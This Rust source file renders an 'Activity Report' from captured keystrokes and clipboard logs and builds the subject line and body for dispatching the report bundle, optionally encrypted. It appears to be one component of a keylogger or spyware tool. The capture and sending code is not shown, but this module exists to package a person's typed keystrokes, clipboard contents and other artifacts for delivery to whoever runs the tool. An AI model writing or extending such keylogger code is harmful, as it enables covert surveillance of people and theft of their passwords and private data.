//! Plain-text report document and dispatch message text.

use crate::report::assembler::ReportCycle;
use std::fmt::Write;

/// Render the report document attached to a cycle's bundle.
pub fn render_report(cycle: &ReportCycle, hostname: &str) -> String {
    let mut out = String::new();

    let _ = writeln!(out, "Activity Report");
    let _ = writeln!(out, "===============");
    let _ = writeln!(out, "Cycle:     {}", cycle.id);
    let _ = writeln!(out, "Generated: {}", cycle.started_at.to_rfc3339());
    let _ = writeln!(out, "Host:      {hostname}");
    let _ = writeln!(out);

    section(
        &mut out,
        &format!("Keystrokes (last {} lines)", cycle.keylog_excerpt.len()),
        cycle.keylog.as_ref().map(|_| cycle.keylog_excerpt.as_slice()),
        "(no keylog)",
    );
    section(
        &mut out,
        &format!("Clipboard (last {} lines)", cycle.clipboard_excerpt.len()),
        cycle
            .clipboard_log
            .as_ref()
            .map(|_| cycle.clipboard_excerpt.as_slice()),
        "(no clipboard log)",
    );

    let _ = writeln!(out, "Artifacts");
    let _ = writeln!(out, "---------");
    let artifacts = cycle.attachments();
    if artifacts.is_empty() {
        let _ = writeln!(out, "(none)");
    }
    for path in artifacts {
        if let Some(name) = path.file_name() {
            let _ = writeln!(out, "- {}", name.to_string_lossy());
        }
    }

    out
}

fn section(out: &mut String, title: &str, lines: Option<&[String]>, missing: &str) {
    let _ = writeln!(out, "{title}");
    let _ = writeln!(out, "{}", "-".repeat(title.len()));
    match lines {
        Some(lines) => {
            for line in lines {
                let _ = writeln!(out, "{line}");
            }
        }
        None => {
            let _ = writeln!(out, "{missing}");
        }
    }
    let _ = writeln!(out);
}

/// Subject line for a dispatched bundle.
pub fn subject_line(cycle: &ReportCycle, hostname: &str) -> String {
    format!(
        "Activity report {} {}",
        hostname,
        cycle.started_at.format("%Y-%m-%d %H:%M")
    )
}

/// Message body for a dispatched bundle. Carries no captured content.
pub fn message_body(cycle: &ReportCycle, attachment_count: usize, encrypted: bool) -> String {
    format!(
        "Report cycle {} generated at {}.\n{} attachment(s){}.",
        cycle.id,
        cycle.started_at.to_rfc3339(),
        attachment_count,
        if encrypted { ", encrypted" } else { "" }
    )
}
